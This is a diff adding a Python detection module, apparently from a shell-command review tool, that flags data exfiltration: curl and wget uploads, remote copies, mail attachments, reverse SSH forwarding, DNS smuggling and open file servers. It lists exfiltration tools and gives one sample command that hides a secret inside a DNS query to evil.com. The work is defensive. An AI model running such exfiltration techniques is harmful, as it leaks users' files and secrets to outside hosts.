@@ -1,0 +1,506 @@
+"""Exfiltration: data leaving the machine by upload, copy, mail, DNS, or a server exposing it."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from forethought.review.base import Prediction
+from forethought.review.shell.interpreters import SHELLS, inline_code
+from forethought.review.shell.model import ShellAnalysis, SimpleCommand
+from forethought.review.shell.paths import normalise, secret_kind
+from forethought.review.shell.predict import (
+    EXFILTRATION,
+    REMOTE_SHELL,
+    harm,
+)
+from forethought.review.shell.rules.common import (
+    host_of,
+    is_local_host,
+    is_remote_spec,
+    option_values,
+    short_flags,
+)
+from forethought.review.shell.rules.network import (
+    DATA_READERS,
+    DNS_AND_PROBES,
+    HARMLESS_SUBSTITUTIONS,
+    UPLOAD_LINES,
+    file_secret,
+    inner_commands,
+    reads_secret,
+    send,
+    upstream_secret,
+)
+from forethought.review.shell.writes import operands
+
+Rule = Iterator[Prediction]
+
+
+def _ssh(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    flags = short_flags(cmd)
+    if "R" in flags:
+        yield harm(
+            cmd,
+            REMOTE_SHELL,
+            "forwards a port from a remote host back into this machine",
+            "moderate",
+            0.6,
+            True,
+        )
+    files = [t for op, t in cmd.redirects if op.lstrip("0123456789") == "<" and t != "/dev/null"]
+    upstream = analysis.upstream(cmd)
+    ops = operands(cmd, "bcDEeFIiJLlmOopQRSWw")
+    remote_command = ops[1:]
+    remote_shell = not remote_command or remote_command[0].split()[0] in SHELLS
+    parsed = not any(i.kind == "parse_error" for i in analysis.issues)
+    if (files or upstream) and remote_shell and parsed:
+        return  # commands for the remote shell; literal ones are reviewed as a nested script
+    if files or upstream:
+        host = next((a for a in ops if a), "a remote host")
+        source = files[0] if files else f"the output of `{upstream[0].text}`"
+        secret = file_secret(files[0], cmd.cwd) if files else upstream_secret(analysis, cmd)
+        yield send(cmd, source, f"{host_of(host)} over SSH", secret, "moderate", 0.6)
+
+
+# -- exfiltration ------------------------------------------------------------------------------
+
+_CURL_UPLOADS = (
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-ascii",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "--form-string",
+    "-T",
+    "--upload-file",
+)
+
+
+def _urls(cmd: SimpleCommand) -> list[str]:
+    return [a for a in cmd.args if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*://", a)] or [
+        a
+        for a in operands(cmd, "oOPdHXAeuUTFxrwbcEK", ("data", "output", "header", "user"))
+        if "." in a or ":" in a
+    ]
+
+
+def _destination(cmd: SimpleCommand) -> tuple[str, bool]:
+    urls = _urls(cmd)
+    if not urls:
+        return "a web server", False
+    host = host_of(urls[0])
+    return host or urls[0], is_local_host(host)
+
+
+def _curl(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    where, local = _destination(cmd)
+    for url in _urls(cmd):
+        scheme = url.split("://", 1)[0].lower()
+        if scheme in ("gopher", "dict", "telnet", "ldap", "smtp", "smtps", "tftp"):
+            yield harm(
+                cmd,
+                EXFILTRATION,
+                f"sends raw data to {where} over {scheme}://",
+                "moderate",
+                0.6,
+                False,
+            )
+        if scheme == "file":
+            path = url.split("://", 1)[1]
+            kind = secret_kind(path)
+            if kind:
+                from forethought.review.shell.predict import SECRET_ACCESS
+
+                yield harm(
+                    cmd,
+                    SECRET_ACCESS,
+                    f"reads {path} ({kind[0]}) through curl file://",
+                    "high" if kind[1] else "moderate",
+                    0.8,
+                    False,
+                )
+    for value in option_values(cmd, *_CURL_UPLOADS):
+        field = value.split("=", 1)[1] if cmd.name == "curl" and "=@" in value else value
+        if field.startswith(("@", "<")) or value in option_values(cmd, "-T", "--upload-file"):
+            path = field.lstrip("@<").split(";", 1)[0]
+            if path in ("-", "."):
+                upstream = analysis.upstream(cmd)
+                source = f"the output of `{upstream[0].text}`" if upstream else "its standard input"
+                yield send(
+                    cmd,
+                    source,
+                    where,
+                    upstream_secret(analysis, cmd),
+                    "moderate" if local else "high",
+                )
+            else:
+                yield send(
+                    cmd, path, where, file_secret(path, cmd.cwd), "moderate" if local else "high"
+                )
+            return
+    yield from _post_data(cmd, analysis, where, local)
+
+
+def _post_data(cmd: SimpleCommand, analysis: ShellAnalysis, where: str, local: bool) -> Rule:
+    for word in cmd.words[1:]:
+        if word.substitutions and any(
+            c.name not in HARMLESS_SUBSTITUTIONS for c in inner_commands(analysis, cmd)
+        ):
+            secret = next(
+                (s for c in inner_commands(analysis, cmd) if (s := reads_secret(c))), None
+            )
+            yield send(
+                cmd,
+                f"the output of `{word.substitutions[0]}`",
+                where,
+                secret,
+                "moderate" if local else "high",
+                0.6,
+            )
+            return
+
+
+def _wget(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    where, local = _destination(cmd)
+    for path in option_values(cmd, "--post-file", "--body-file"):
+        yield send(cmd, path, where, file_secret(path, cmd.cwd), "moderate" if local else "high")
+        return
+    yield from _post_data(cmd, analysis, where, local)
+
+
+def _copy_to_remote(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
+    """scp/rsync/rclone/cloud copies whose destination is another machine."""
+    name = cmd.name
+    if name in ("aws", "gsutil", "az", "gcloud"):
+        args = cmd.args
+        ops = [a for a in args if not a.startswith("-")]
+        if (
+            len(ops) >= 3
+            and ops[1] in ("cp", "sync", "mv", "rsync", "upload")
+            and re.match(r"^(?:s3|gs|az|https?)://", ops[-1])
+            and not re.match(r"^\w+://", ops[2])
+        ):
+            yield send(
+                cmd,
+                ops[2],
+                f"cloud storage at {ops[-1]}",
+                file_secret(ops[2], cmd.cwd),
+                "moderate",
+                0.6,
+            )
+        return
+    ops = operands(
+        cmd,
+        "eFiIloPScTfBJ" if name == "scp" else "eTfB",
+        (
+            "rsh",
+            "rsync-path",
+            "exclude",
+            "include",
+            "files-from",
+            "filter",
+            "chmod",
+            "log-file",
+            "password-file",
+            "port",
+            "bwlimit",
+            "temp-dir",
+            "compare-dest",
+            "link-dest",
+            "backup-dir",
+            "suffix",
+            "timeout",
+            "exclude-from",
+            "include-from",
+            "config",
+            "transfers",
+        ),
+    )
+    if name in ("rclone",):
+        ops = ops[1:] if ops and ops[0] in ("copy", "sync", "move", "copyto", "moveto") else []
+    if len(ops) < 2:
+        return
+    destination, sources = ops[-1], ops[:-1]
+    remote = is_remote_spec(destination) or "::" in destination
+    if not remote or all(is_remote_spec(s) for s in sources):
+        return
+    host = host_of(destination)
+    if is_local_host(host):
+        return
+    local_sources = [s for s in sources if not is_remote_spec(s)]
+    secret = next((s for src in local_sources if (s := file_secret(src, cmd.cwd))), None)
+    yield send(cmd, ", ".join(local_sources[:3]), host or destination, secret)
+
+
+def _transfer_client(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    """Interactive clients (ftp, sftp, tftp, smbclient): uploads are the `put` lines they read."""
+    script = " ".join(option_values(cmd, "-c", "-e", "--command")) + "\n" + (cmd.stdin or "")
+    for owner, rest in analysis.transcripts:
+        if owner is cmd:
+            script += "\n" + rest
+    if cmd.name in ("ncftpput", "curlftpfs") or UPLOAD_LINES.search(script):
+        yield send(cmd, "local files", "a remote file server", None, "high", 0.7)
+    elif cmd.name not in ("busybox",):
+        yield harm(
+            cmd,
+            EXFILTRATION,
+            f"opens a {cmd.name} session with a remote host, through which files can be sent",
+            "moderate",
+            0.5,
+            True,
+        )
+
+
+def _mail(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    attachments = option_values(cmd, "-a", "-A", "--attach")
+    files = [t for op, t in cmd.redirects if op.lstrip("0123456789") == "<" and t != "/dev/null"]
+    upstream = analysis.upstream(cmd)
+    if not (attachments or files or upstream or cmd.stdin):
+        return
+    paths = attachments + files
+    secret = next((s for p in paths if (s := file_secret(p, cmd.cwd))), None) or upstream_secret(
+        analysis, cmd
+    )
+    what = (
+        ", ".join(paths)
+        if paths
+        else (f"the output of `{upstream[0].text}`" if upstream else "a message")
+    )
+    yield send(cmd, what, "an email recipient", secret, "moderate", 0.6)
+
+
+def _probe_with_data(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    """DNS lookups and pings whose name carries data: `dig $(cat secret).evil.com`."""
+    inner = [c for c in inner_commands(analysis, cmd) if c.name not in HARMLESS_SUBSTITUTIONS]
+    smuggled = any(
+        w.substitutions and w.span.strip("\"'") not in w.substitutions for w in cmd.words[1:]
+    )
+    reads_data = any(c.name in DATA_READERS or reads_secret(c) for c in inner)
+    if inner and (smuggled or reads_data):
+        secret = next((s for c in inner if (s := reads_secret(c))), None)
+        yield send(
+            cmd,
+            f"the output of `{inner[0].text}`",
+            f"a name server (hidden in a {cmd.name} query)",
+            secret,
+            "high",
+            0.7,
+        )
+    elif cmd.name == "whois" and option_values(cmd, "-h"):
+        host = option_values(cmd, "-h")[0]
+        if not is_local_host(host):
+            yield send(
+                cmd,
+                "the query text",
+                f"{host} (a whois server of its choosing)",
+                None,
+                "moderate",
+                0.5,
+            )
+    elif cmd.name == "finger" and any("@" in a for a in cmd.args):
+        yield send(cmd, "the query text", "the finger server named after @", None, "moderate", 0.5)
+
+
+def _misc_upload(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
+    name = cmd.name
+    if name == "ab":
+        for path in option_values(cmd, "-p", "-u"):
+            yield send(cmd, path, _destination(cmd)[0], file_secret(path, cmd.cwd))
+    elif name == "hping3" or name == "hping":
+        for path in option_values(cmd, "--file", "-E"):
+            yield send(
+                cmd, path, "a remote host inside ICMP/TCP packets", file_secret(path, cmd.cwd)
+            )
+    elif name in ("lp", "lpr"):
+        hosts = option_values(cmd, "-h", "-H")
+        if hosts and not is_local_host(host_of(hosts[0])):
+            files = operands(cmd, "hHdPnotqU")
+            yield send(
+                cmd,
+                ", ".join(files) or "a document",
+                f"the print server {hosts[0]}",
+                None,
+                "moderate",
+                0.6,
+            )
+    elif name == "cancel" and option_values(cmd, "-h"):
+        yield send(
+            cmd,
+            "request data",
+            f"the print server {option_values(cmd, '-h')[0]}",
+            None,
+            "moderate",
+            0.5,
+        )
+    elif name in ("tar", "bsdtar", "gtar"):
+        for archive in option_values(cmd, "-f", "--file") + [
+            a[1:] for a in cmd.args[:1] if a.endswith("f") and not a.startswith("-")
+        ]:
+            if is_remote_spec(archive) and "@" in archive:
+                yield send(cmd, "an archive of local files", host_of(archive), None)
+        if (
+            cmd.args
+            and not cmd.args[0].startswith("-")
+            and "f" in cmd.args[0]
+            and len(cmd.args) > 1
+            and is_remote_spec(cmd.args[1])
+        ):
+            yield send(cmd, "an archive of local files", host_of(cmd.args[1]), None)
+    elif name in ("rlogin", "rsh", "rexec"):
+        yield harm(
+            cmd,
+            EXFILTRATION,
+            f"opens an unencrypted {name} session with a remote host",
+            "moderate",
+            0.5,
+            False,
+        )
+    elif name in ("restic", "borg", "duplicity", "kopia", "rdiff-backup"):
+        text = " ".join(cmd.args)
+        if re.search(r"(?:rest|sftp|s3|b2|azure|gs|swift|rclone):|://|\w@[\w.-]+:", text):
+            yield send(cmd, "a backup of local files", "a remote repository", None, "moderate", 0.6)
+    elif name == "sshfs":
+        yield harm(
+            cmd,
+            EXFILTRATION,
+            "mounts a remote file system: files copied into it leave this machine",
+            "moderate",
+            0.5,
+            True,
+        )
+    elif name == "smbclient":
+        yield from _transfer_client(cmd, analysis)
+
+
+def _sshfs_copies(analysis: ShellAnalysis) -> Rule:
+    mounts = []
+    for cmd in analysis.commands:
+        if cmd.name == "sshfs":
+            ops = operands(cmd, "opC")
+            if len(ops) >= 2:
+                mounts.append(normalise(ops[1], cmd.cwd))
+        elif mounts and cmd.name in ("cp", "mv", "rsync", "tar", "dd", "install"):
+            ops = operands(cmd, "tS")
+            if ops and any(normalise(ops[-1], cmd.cwd).startswith(m) for m in mounts):
+                secret = next((s for src in ops[:-1] if (s := file_secret(src, cmd.cwd))), None)
+                yield send(cmd, ", ".join(ops[:-1]), "a remote host through an sshfs mount", secret)
+
+
+def _servers(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
+    """Programs that serve a directory over HTTP (or similar) to other machines."""
+    name, args = cmd.name, cmd.args
+    served: str | None = None
+    bind = ""
+    code = inline_code(name, cmd.words[1:])
+    if code is not None and code.module in (
+        "http.server",
+        "SimpleHTTPServer",
+        "uploadserver",
+        "pyftpdlib",
+        "CGIHTTPServer",
+        "RangeHTTPServer",
+    ):
+        served = (
+            option_values(cmd, "-d", "--directory")[0]
+            if option_values(cmd, "-d", "--directory")
+            else "."
+        )
+        bind = (option_values(cmd, "-b", "--bind") or [""])[0]
+    elif (
+        code is not None
+        and code.language == "ruby"
+        and code.module == "un"
+        and "httpd" in (code.code or "")
+    ):
+        served = "."
+    elif name == "php" and option_values(cmd, "-S"):
+        bind = option_values(cmd, "-S")[0].rsplit(":", 1)[0]
+        served = (option_values(cmd, "-t") or ["."])[0]
+    elif (name == "busybox" and args[:1] == ["httpd"]) or name in (
+        "httpd",
+        "darkhttpd",
+        "webfsd",
+        "http-server",
+        "miniserve",
+        "updog",
+    ):
+        served = (option_values(cmd, "-h") or ["."])[0] if name in ("busybox", "httpd") else "."
+    elif name == "kubectl" and args[:1] == ["proxy"]:
+        www = option_values(cmd, "--www", "-w")
+        if www:
+            served = www[0]
+        bind = (option_values(cmd, "--address") or ["127.0.0.1"])[0]
+    elif name == "twistd" and "web" in args:
+        served = (option_values(cmd, "--path") or ["."])[0]
+    if served is None:
+        return
+    if bind and is_local_host(bind):
+        yield harm(
+            cmd, EXFILTRATION, f"serves {served} over HTTP on this machine only", "low", 0.4, True
+        )
+        return
+    yield harm(
+        cmd,
+        EXFILTRATION,
+        f"serves the files in {served} to any machine that can reach this one",
+        "moderate",
+        0.6,
+        False,
+    )
+
+
+COMMANDS: dict[str, list] = {
+    "curl": [_curl],
+    "wget": [_wget],
+    "ssh": [_ssh],
+}
+for _tool in ("scp", "rsync", "rclone", "aws", "gsutil"):
+    COMMANDS[_tool] = [_copy_to_remote]
+for _tool in ("mail", "mailx", "mutt", "sendmail", "ssmtp", "msmtp", "s-nail", "neomutt"):
+    COMMANDS[_tool] = [_mail]
+for _tool in (
+    "ab",
+    "hping3",
+    "hping",
+    "lp",
+    "lpr",
+    "cancel",
+    "tar",
+    "bsdtar",
+    "gtar",
+    "rlogin",
+    "rsh",
+    "rexec",
+    "restic",
+    "borg",
+    "duplicity",
+    "kopia",
+    "sshfs",
+    "smbclient",
+):
+    COMMANDS[_tool] = [_misc_upload]
+for _tool in ("ftp", "sftp", "tftp", "lftp", "ncftp", "ncftpput", "pftp"):
+    COMMANDS[_tool] = [_transfer_client]
+for _tool in sorted(DNS_AND_PROBES | {"nc", "ncat", "telnet"}):
+    COMMANDS.setdefault(_tool, []).append(_probe_with_data)
+for _tool in (
+    "python",
+    "php",
+    "ruby",
+    "busybox",
+    "httpd",
+    "darkhttpd",
+    "webfsd",
+    "http-server",
+    "miniserve",
+    "updog",
+    "kubectl",
+    "twistd",
+):
+    COMMANDS.setdefault(_tool, []).append(_servers)
+SCRIPT = [_sshfs_copies]
